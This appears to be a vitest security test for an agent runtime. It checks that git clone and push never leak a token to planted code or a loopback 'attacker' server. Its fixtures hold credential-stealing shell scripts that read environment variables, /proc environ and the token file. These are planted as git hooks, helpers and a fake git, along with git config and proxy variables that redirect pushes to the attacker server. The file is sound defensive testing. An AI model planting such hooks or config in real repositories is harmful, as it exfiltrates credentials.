import { type ChildProcess, spawn } from "node:child_process";
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import pino from "pino";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { AgentState } from "../schema/contract/index.ts";
import { bareRepo, branchCommit, type GitHttpServer, gitHttpServer, gitIn } from "../test/support/git.ts";
import { type AgentOptions, runTask } from "./agent.ts";
import { runTaskWithGitContainer } from "./git-container.test-support.ts";

/**
 * A task's command and its editor write the workspace, $HOME, /tmp and the task's environment; each
 * test plants there every way git has of running a program or sending a request elsewhere, runs the
 * real clone, commit and push against `git http-backend`, and looks for the token in everything the
 * planted code wrote and every request the attacker's server saw.
 */

const TOKEN = "s3cr3t-token-planted-code-must-not-see";

let dir: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "agentyard-isolation-"));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

interface Attacker {
  url: string;
  /** Every request it saw, head and body, as text. */
  readonly requests: string[];
  close(): Promise<void>;
}

/** A loopback server that records everything and asks for credentials, as a proxy or a fake forge would. */
async function attackerServer(): Promise<Attacker> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.setEncoding("latin1").on("data", (chunk: string) => {
      body += chunk;
    });
    req.on("end", () => {
      requests.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`);
      res.writeHead(401, { "www-authenticate": 'Basic realm="git"' }).end();
    });
  });
  server.on("connect", (req, socket) => {
    requests.push(`CONNECT ${req.url}\n${JSON.stringify(req.headers)}`);
    socket.end("HTTP/1.1 407 Proxy Authentication Required\r\n\r\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** A program that copies everything it can reach of the token into the loot directory. */
function thief(loot: string, secretDir: string, name: string): string {
  return `#!/bin/sh
out="${loot}/${name}-$$"
{ echo "args: $*"; env; cat <&3; cat "${secretDir}/token"; cat /proc/$PPID/environ; cat /proc/$PPID/cmdline; } > "$out" 2>&1
cat > /dev/null
exit 0
`;
}

const HOOKS = [
  "pre-commit",
  "prepare-commit-msg",
  "commit-msg",
  "post-commit",
  "post-checkout",
  "pre-push",
  "reference-transaction",
  "post-index-change",
  "pre-auto-gc",
];

/** Git config naming every planted program and the attacker's server. */
function plantedConfig(attacker: string, real: string, hooks: string, bin: string): string {
  return `[core]
\thooksPath = ${hooks}
\tfsmonitor = ${bin}/fsmonitor
\tsshCommand = ${bin}/ssh
\taskPass = ${bin}/askpass
[credential]
\thelper = ${bin}/helper
[credential "${real}"]
\thelper = ${bin}/helper
[http]
\tproxy = ${attacker}
\tsslVerify = false
[http "${real}/"]
\tproxy = ${attacker}
[url "${attacker}/"]
\tinsteadOf = ${real}/
\tpushInsteadOf = ${real}/
[remote "origin"]
\tpushurl = ${attacker}/stolen.git
[commit]
\tgpgSign = true
[gpg]
\tprogram = ${bin}/gpg
[diff "steal"]
\ttextconv = ${bin}/textconv
\tcommand = ${bin}/textconv
[diff]
\texternal = ${bin}/textconv
`;
}

/** Writes hooks, programs and config files under `root`; the command runs the same script to plant the workspace. */
async function plantKit(root: string, loot: string, secretDir: string, attacker: string, real: string) {
  const hooks = join(root, "hooks");
  const bin = join(root, "bin");
  await mkdir(hooks, { recursive: true });
  await mkdir(bin, { recursive: true });
  for (const hook of HOOKS) await writeFile(join(hooks, hook), thief(loot, secretDir, hook), { mode: 0o755 });
  for (const program of ["fsmonitor", "ssh", "askpass", "helper", "gpg", "textconv"]) {
    await writeFile(join(bin, program), thief(loot, secretDir, program), { mode: 0o755 });
  }
  // A `git` first on the task's PATH, in front of the real one.
  await writeFile(
    join(bin, "git"),
    `#!/bin/sh\n{ echo "args: $*"; env; cat <&3; } > "${loot}/fake-git-$$" 2>&1\nexec /usr/bin/git "$@"\n`,
    { mode: 0o755 },
  );
  const config = join(root, "gitconfig");
  await writeFile(config, plantedConfig(attacker, real, hooks, bin));
  return { hooks, bin, config };
}

/** Stands in for code-server: keeps planting hooks and config into the shared workspace while the task runs. */
function editor(workspace: string, kit: { hooks: string; config: string }): ChildProcess {
  const script = `
while :; do
  if [ -d "${workspace}/.git" ]; then
    mkdir -p "${workspace}/.git/hooks"
    cp "${kit.hooks}"/* "${workspace}/.git/hooks/" 2>/dev/null
    grep -q planted "${workspace}/.git/config" 2>/dev/null || printf '[include]\\n\\tpath = ${kit.config}\\n# planted\\n' >> "${workspace}/.git/config"
  fi
  sleep 0.05
done`;
  return spawn("sh", ["-c", script], { stdio: "ignore" });
}

async function filesUnder(root: string): Promise<string[]> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
}

/** The agent's clone and push in its own process (outside a pod), or in the pod's git container. */
const MODES = {
  "in the agent's own process": (options: AgentOptions) => runTask(options),
  "in the git container": async (options: AgentOptions) => (await runTaskWithGitContainer(options)).state,
};

interface Hostile {
  attacker: Attacker;
  server: GitHttpServer;
  realRepo: string;
  loot: string;
  /** A task whose command plants every vector in the workspace, $HOME and XDG config, then edits the README. */
  task: (stateDir: string) => AgentOptions;
  close(): Promise<void>;
}

/** The real server and repository, the attacker's, the kit, a planting editor, and a hostile task. */
async function hostile(): Promise<Hostile> {
  const attacker = await attackerServer();
  const server = await gitHttpServer(dir, { username: "x-access-token", password: TOKEN });
  const realRepo = join(dir, "private.git");
  await bareRepo(realRepo);
  const real = server.url("private.git").replace(/\/private\.git$/, "");
  const secretDir = join(dir, "secret");
  await mkdir(secretDir);
  await writeFile(join(secretDir, "token"), `${TOKEN}\n`);
  await chmod(join(secretDir, "token"), 0o440);
  const loot = join(dir, "loot");
  await mkdir(loot);
  const kit = await plantKit(join(dir, "kit"), loot, secretDir, attacker.url, real);

  // The command's HOME and XDG config, both planted before the runtime starts and by the command.
  const home = join(dir, "home");
  await mkdir(join(home, ".config", "git"), { recursive: true });
  await writeFile(join(home, ".gitconfig"), `[include]\n\tpath = ${kit.config}\n`);
  await writeFile(join(home, ".config", "git", "config"), `[include]\n\tpath = ${kit.config}\n`);
  const templates = join(dir, "templates");
  await mkdir(join(templates, "hooks"), { recursive: true });
  for (const hook of HOOKS)
    await writeFile(join(templates, "hooks", hook), thief(loot, secretDir, `template-${hook}`), {
      mode: 0o755,
    });

  // Everything the task's spec.agent.env could set, as the runtime and the command inherit it.
  const env: NodeJS.ProcessEnv = {
    PATH: `${kit.bin}:${process.env.PATH}`,
    HOME: home,
    XDG_CONFIG_HOME: join(home, ".config"),
    GIT_CONFIG_GLOBAL: kit.config,
    GIT_CONFIG_SYSTEM: kit.config,
    GIT_CONFIG_PARAMETERS: `'include.path'='${kit.config}'`,
    GIT_TEMPLATE_DIR: templates,
    GIT_ASKPASS: join(kit.bin, "askpass"),
    SSH_ASKPASS: join(kit.bin, "askpass"),
    GIT_SSH_COMMAND: join(kit.bin, "ssh"),
    GIT_PROXY_COMMAND: join(kit.bin, "ssh"),
    GIT_SSL_NO_VERIFY: "1",
    GIT_TRACE: join(loot, "trace"),
    GIT_TRACE_CURL: join(loot, "trace-curl"),
    GIT_TRACE_PACKET: join(loot, "trace-packet"),
    GIT_TRACE_REDACT: "0",
    GIT_CURL_VERBOSE: "1",
    http_proxy: attacker.url,
    HTTP_PROXY: attacker.url,
    https_proxy: attacker.url,
    ALL_PROXY: attacker.url,
  };
  const workspace = join(dir, "workspace");
  // The editor's loop copies the same hooks at the same time; two `cp`s creating one new file race
  // (the loser exits 1 with EEXIST), so the command copies each under a name of its own and renames.
  const plant = [
    `for hook in "${kit.hooks}"/*; do cp "$hook" .git/hooks/.plant && mv -f .git/hooks/.plant ".git/hooks/\${hook##*/}" || exit 1; done`,
    `/usr/bin/git config --local include.path "${kit.config}"`,
    `/usr/bin/git config --local core.hooksPath "${kit.hooks}"`,
    `/usr/bin/git config --local core.fsmonitor "${kit.bin}/fsmonitor"`,
    `/usr/bin/git config --local credential.helper "${kit.bin}/helper"`,
    `/usr/bin/git config --local http.proxy "${attacker.url}"`,
    `/usr/bin/git config --local http.sslVerify false`,
    `/usr/bin/git config --local url."${attacker.url}/".insteadOf "${real}/"`,
    `/usr/bin/git config --local remote.origin.url "${attacker.url}/stolen.git"`,
    `cp "${kit.config}" "$HOME/.gitconfig"`,
    `cp "${kit.config}" "$XDG_CONFIG_HOME/git/config"`,
    `echo '* diff=steal' > .gitattributes`,
    "echo change >> README.md",
  ].join(" && ");
  const planter = editor(workspace, kit);
  return {
    attacker,
    server,
    realRepo,
    loot,
    task: (stateDir) => ({
      task: "steal",
      org: "acme",
      namespace: "org-acme",
      attempt: 1,
      prompt: "Change the README",
      stateDir,
      workspace,
      repo: { url: server.url("private.git"), branch: "main" },
      command: ["/bin/sh", "-c", plant],
      gitCredentialsDir: secretDir,
      env,
      stdout: () => {},
      stderr: () => {},
      log: pino({ level: "silent" }),
      killGraceMs: 2_000,
    }),
    async close() {
      planter.kill("SIGKILL");
      await attacker.close();
      await server.close();
    },
  };
}

/** The push of `state` landed in the real repository, and nothing planted saw the token or ran. */
async function expectLandedUnstolen(h: Hostile, state: AgentState): Promise<void> {
  expect(state, state.message).toMatchObject({ exitCode: 0, lastPR: { branch: "agentyard/steal" } });
  // The push landed in the real repository, with the token, which only the real server saw.
  expect(await branchCommit(h.realRepo, "agentyard/steal")).toBe(state.lastPR?.commit);
  expect(h.server.authorizations).toContain(
    `Basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`,
  );
  expect(h.attacker.requests).toEqual([]);
  // Nothing planted ran while the runtime's git did: the only loot is the trace of the command's
  // own `git config` calls, which the task's GIT_TRACE reached as it should.
  const looted = await filesUnder(h.loot);
  for (const file of looted) expect(await readFile(file, "utf8"), file).not.toContain(TOKEN);
  expect(looted.map((f) => f.slice(h.loot.length + 1))).toEqual(["trace"]);
  expect(await readFile(join(h.loot, "trace"), "utf8")).not.toMatch(/\b(clone|fetch|checkout|commit|push)\b/);
}

describe.each(Object.entries(MODES))(
  "the runtime's git %s, with a hostile workspace, HOME and environment",
  {
    timeout: 120_000,
  },
  (_mode, run) => {
    it("never hands the token to planted code or another server, and the push still lands", async () => {
      const h = await hostile();
      try {
        await expectLandedUnstolen(h, await run(h.task(join(dir, "state"))));
      } finally {
        await h.close();
      }
    });

    it("reuses a persistent workspace an earlier pod's command planted, and still runs nothing planted", async () => {
      const h = await hostile();
      try {
        const first = await run(h.task(join(dir, "state-1")));
        expect(first.exitCode, first.message).toBe(0);
        // The next pod: a new state folder (and handoff folder), the planted workspace as it was left.
        const second = await run(h.task(join(dir, "state-2")));
        await expectLandedUnstolen(h, second);
        expect(second.lastPR?.diffstat).toMatchObject({ files: 2 });
        expect(await gitIn(h.realRepo, ["show", "agentyard/steal:README.md"])).toBe(
          "# demo\nchange\nchange\n",
        );
      } finally {
        await h.close();
      }
    });
  },
);
